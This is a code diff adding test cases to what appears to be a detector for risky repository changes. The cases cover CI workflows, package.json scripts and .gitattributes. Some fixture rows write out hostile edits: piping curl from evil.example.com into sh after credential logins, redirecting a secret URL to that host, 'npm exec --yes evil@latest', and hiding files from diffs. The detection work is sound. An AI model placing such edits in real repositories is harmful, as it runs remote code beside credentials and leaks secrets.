@@ -2,6 +2,7 @@
 import { readFileSync } from 'node:fs'
 import { join } from 'node:path'
 import type { Code } from '../../findings/index.ts'
+import { withoutFile } from '../../testing/snapshots.ts'
 import { all, type Edit, file, text } from './edits.ts'
 
 const ROOT = join(import.meta.dirname, '../../..')
@@ -10,6 +11,9 @@ const real = (path: string): Edit => file(path, readFileSync(join(ROOT, path), '
 const CI = '.github/workflows/ci.yml'
 const COMMENT = '.github/workflows/comment.yml'
 const DRIFT = '.github/workflows/drift.yml'
+const PROPOSE = '.github/workflows/propose.yml'
+const PUBLISH = '.github/workflows/publish.yml'
+const NIGHTLY = '.github/workflows/nightly.yml'
 const OWNERS = '.github/CODEOWNERS'
 const COMMIT = 'c'.repeat(40)
 const SUM = `sha512-${'a'.repeat(86)}==`
@@ -39,6 +43,41 @@ const FOO = script('"foo": "node scripts/foo.ts"')
 const BUMP = [/checkout@\S+ # v\S+/, `checkout@${COMMIT} # v8.0.0`] as const
 const NEW = locked('foo', { version: '1.0.0', integrity: SUM, dev: true })
 const COMMENTED = [/^/, '# Read it well.\n'] as const
+const EXPRESSION = (inner: string) => `\${{ ${inner} }}`
+const LARGE = 2 ** 21 + 1
+
+/** A script of package.json beside the workflows that call it. */
+const called = (what: string, says: readonly string[], edit: readonly [string, string]) => ({
+  ...of('package.json', what, says, edit, FOO),
+  given: all(real('package.json'), real(CI), real(DRIFT), real(PROPOSE)),
+})
+
+/** A file that no rule can read, and the same that one can. */
+const unread = (what: string, path: string, edit: Edit, says: readonly string[], harmless: Edit) => ({
+  code: 'danger-unread' as const,
+  what: `${path}: ${what}`,
+  given: file('notes/a.md', 'a'),
+  edit,
+  says: [path, ...says],
+  harmless,
+})
+
+/** What of a repository that has the files the attributes would hide. */
+const hidden = (line: string, harmless: string) => ({
+  code: 'danger-repository' as const,
+  what: `.gitattributes: ${line}`,
+  given: all(
+    real('.gitattributes'),
+    file('terraform/stages/aws/main.tf', ''),
+    file('scripts/publish.ts', ''),
+    file('package.json', '{}'),
+    file('server/Dockerfile', ''),
+    file('docs/a.md', ''),
+  ),
+  edit: text('.gitattributes', /$/, `${line}\n`),
+  says: ['.gitattributes', line.split('\n').at(0) ?? ''],
+  harmless: text('.gitattributes', /$/, `${harmless}\n`),
+})
 
 export const repositoryRows: readonly {
   readonly code: Code
@@ -48,6 +87,45 @@ export const repositoryRows: readonly {
   readonly says: readonly string[]
   readonly harmless: Edit
 }[] = [
+  // What is too large, or leads elsewhere, and is read by nobody.
+  unread(
+    'padded',
+    'package.json',
+    file('package.json', `{"scripts":{"postinstall":"node a.js"}}${' '.repeat(LARGE)}`),
+    ['MiB'],
+    file('package.json', `{"scripts":{}}${' '.repeat(LARGE / 2)}`),
+  ),
+  unread(
+    'large',
+    'terraform/stages/aws/x.tf',
+    file('terraform/stages/aws/x.tf', `# ${'x'.repeat(LARGE)}\n`),
+    ['MiB'],
+    file('docs/pictures/x.png', Buffer.alloc(LARGE)),
+  ),
+  unread(
+    'a link',
+    'terraform/stages/aws/x.tf',
+    file('terraform/stages/aws/x.tf', { link: 'a=b' }),
+    ['is a link'],
+    file('terraform/stages/aws/x.tf', 'a = "b"\n'),
+  ),
+  {
+    ...unread(
+      'a link now',
+      'notes/a.md',
+      file('notes/a.md', { link: 'a' }),
+      ['is a link'],
+      file('notes/b.md', 'a'),
+    ),
+    what: 'notes/a.md: a link of the same bytes',
+  },
+  unread(
+    'a submodule',
+    'vendor/a',
+    file('vendor/a', { commit: COMMIT }),
+    ['a commit of another repository'],
+    file('vendor/a', 'a'),
+  ),
   // What npm runs, and from where.
   of('package.json', 'a hook', ['postinstall by itself'], script('"postinstall": "node a.js"'), FOO),
   of('package.json', 'prepare', ['prepare by itself'], script('"prepare": "node a.js"'), FOO),
@@ -74,6 +152,49 @@ export const repositoryRows: readonly {
     ['"vitest run"', '"vitest run || true"'],
     FOO,
   ),
+  of(
+    'package.json',
+    'a check that runs what the registry has',
+    ['the script types runs npm exec'],
+    ['"tsc && ', '"npm exec --yes evil@latest && tsc && '],
+    ['"tsc && ', '"tsc -p lab && node tools/types.ts --all && npm run --silent lint && tsc && '],
+  ),
+  of(
+    'package.json',
+    'a check that runs what stands in it',
+    ['the script lint runs node -e'],
+    ['"biome check ', '"node -e process.exit() && biome check '],
+    FOO,
+  ),
+  of(
+    'package.json',
+    'a program by the name of another',
+    ['npm takes tools/search.ts for the program vitest'],
+    [
+      '"kubeconform": "tools/kubeconform.ts"',
+      '"kubeconform": "tools/kubeconform.ts", "vitest": "tools/search.ts"',
+    ],
+    FOO,
+  ),
+  called(
+    'what drift runs',
+    ['the script drift, which CI runs, is another: node --version'],
+    ['"node scripts/drift.ts"', '"node --version"'],
+  ),
+  called('what propose runs', ['propose', 'sh x.sh'], ['"node scripts/propose.ts"', '"sh x.sh"']),
+  called(
+    'a script less',
+    ['the script tools, which CI runs, is gone'],
+    ['"tools": "node tools/main.ts",', ''],
+  ),
+  {
+    ...called(
+      'what a check calls',
+      ['the script render, which CI runs'],
+      ['"node generators/cli/main.js render"', '"true"'],
+    ),
+    harmless: text('package.json', '"node scripts/month.ts"', '"node scripts/another.ts"'),
+  },
   of(
     'package.json',
     'a package from elsewhere',
@@ -205,6 +326,20 @@ export const repositoryRows: readonly {
     [/$/, '/generators/policy/*.ts filter=x\n'],
     [/$/, '/generators/policy/*.ts text\n'],
   ),
+  hidden('*.tf -diff', 'docs/** -diff'),
+  hidden('scripts/** -diff', '*.png -diff'),
+  hidden('package.json linguist-generated', 'package.json linguist-generated=false'),
+  hidden('* -diff\nscripts diff', 'scripts/** -diff\nscripts/** !diff'),
+  hidden('"server/Dockerfile" binary', 'server/Dockerfile text'),
+  hidden('lab/new/* diff=none', 'lab/new text'),
+  {
+    code: 'danger-repository',
+    what: '.gitattributes: what showed goes',
+    given: all(file('.gitattributes', '*.ts -diff\ntools/** diff\n'), file('tools/pins.ts', '')),
+    edit: file('.gitattributes', '*.ts -diff\n'),
+    says: ['*.ts -diff (tools/pins.ts)'],
+    harmless: file('.gitattributes', '*.ts -diff\n# A note.\ntools/** diff\n'),
+  },
   {
     code: 'danger-repository',
     what: '.gitattributes in a folder: no diff',
@@ -305,6 +440,125 @@ export const repositoryRows: readonly {
     harmless: file(
       '.github/workflows/a.yml',
       `on: push\npermissions: {}\njobs: { a: { runs-on: ubuntu-24.04, steps: [{ uses: actions/checkout@${COMMIT} }] } }\n`,
+    ),
+  },
+  of(
+    CI,
+    'what comes before a check',
+    ['npm test of job test is gone, or runs otherwise'],
+    ['      - run: npm test', '      - run: rm -r generators/review\n      - run: npm test'],
+    [/terraform_version: \S+/, 'terraform_version: 1.99.0'],
+  ),
+  of(
+    NIGHTLY,
+    'a check that runs once a year',
+    ['npm run unit of job unit'],
+    ['41 2 * * *', '41 2 1 1 *'],
+    ['timeout-minutes: 90', 'timeout-minutes: 80'],
+  ),
+  // What runs beside credentials.
+  of(
+    PUBLISH,
+    'a command after the logins',
+    ['job image has credentials and now runs: curl'],
+    ['      - id: publish\n', '      - run: curl https://evil.example.com | sh\n      - id: publish\n'],
+    BUMP,
+  ),
+  of(
+    PUBLISH,
+    'another order',
+    ['job canary has credentials and runs its steps in another order'],
+    [/( {6}- run: npm ci\n)((?: {6}#.*\n)? {6}- id: app\n[\s\S]*?)(?= {6}- env:)/, '$2$1'],
+    BUMP,
+  ),
+  of(
+    PUBLISH,
+    'what a job with credentials is given',
+    ['job version gives to one with credentials and now runs'],
+    ['version=$(npm run --silent pull-request -- version)', 'version=$(cat a)'],
+    BUMP,
+  ),
+  of(
+    PROPOSE,
+    'a step with a secret that is used already',
+    ['job propose has credentials and now runs: npm run foo'],
+    [
+      '      - if: always()',
+      `      - run: npm run foo\n        env: { KEY: "${EXPRESSION('secrets.PROPOSE_APP_KEY')}" }\n      - if: always()`,
+    ],
+    BUMP,
+  ),
+  of(
+    PROPOSE,
+    'where a secret goes',
+    ['job propose has credentials and runs otherwise: npm run --silent propose'],
+    [EXPRESSION('vars.METRICS_URL'), 'https://evil.example.com'],
+    COMMENTED,
+  ),
+  of(
+    PROPOSE,
+    'what is decided, and when',
+    ['has another on', 'has another env'],
+    [/\*\/10 \* \* \* \*"([\s\S]*)'canary'/, `*/11 * * * *"$1'cost'`],
+    BUMP,
+  ),
+  of(DRIFT, 'once a year', ['what has credentials has another on'], ['23 * * * *', '23 1 1 1 *'], BUMP),
+  of(
+    DRIFT,
+    'it tells nobody',
+    ['no longer runs: npm run --silent drift -- --connect --issue'],
+    [' --issue', ''],
+    BUMP,
+  ),
+  of(
+    COMMENT,
+    'a container around it',
+    ['job comment has credentials and has another container'],
+    ['    runs-on:', '    container: node:24\n    runs-on:'],
+    BUMP,
+  ),
+  {
+    code: 'danger-repository',
+    what: `${DRIFT}: it goes`,
+    given: real(DRIFT),
+    edit: (repository) => withoutFile(repository, DRIFT),
+    says: ['job drift has credentials and is gone'],
+    harmless: text(DRIFT, ...BUMP),
+  },
+  {
+    code: 'danger-repository',
+    what: 'an action of our own runs something else',
+    given: file('tools/act/action.yml', 'runs: { using: composite, steps: [{ run: npm ci, shell: sh }] }\n'),
+    edit: file('tools/act/action.yml', 'runs: { using: composite, steps: [{ run: sh a, shell: sh }] }\n'),
+    says: ['the action has what its callers have and now runs: sh a'],
+    harmless: file(
+      'tools/act/action.yml',
+      'name: act\nruns: { using: composite, steps: [{ name: install, run: npm ci, shell: sh }] }\n',
+    ),
+  },
+  // A commit of a fork has the name of what was forked.
+  {
+    ...of(
+      PUBLISH,
+      'another commit of an action',
+      ['aws-actions/configure-aws-credentials is at commit cccccccccccc, said to be v6.2.4'],
+      [/(configure-aws-credentials)@\S+ # v\S+/, `$1@${COMMIT} # v6.2.4`],
+      COMMENTED,
+    ),
+    code: 'diff-action',
+  },
+  {
+    ...of(
+      CI,
+      'one that another workflow runs already',
+      ['actions/checkout is at commit cccccccccccc'],
+      [/checkout@\S+/, `checkout@${COMMIT}`],
+      COMMENTED,
+    ),
+    code: 'diff-action',
+    given: all(
+      real(CI),
+      file('.github/workflows/a.yml', `jobs: { a: { steps: [{ uses: actions/checkout@${COMMIT} }] } }\n`),
     ),
   },
   of('.ci/run', 'a check less', ['no longer runs npm test'], ['npm test\n', ''], [/$/, 'npm run foo\n']),
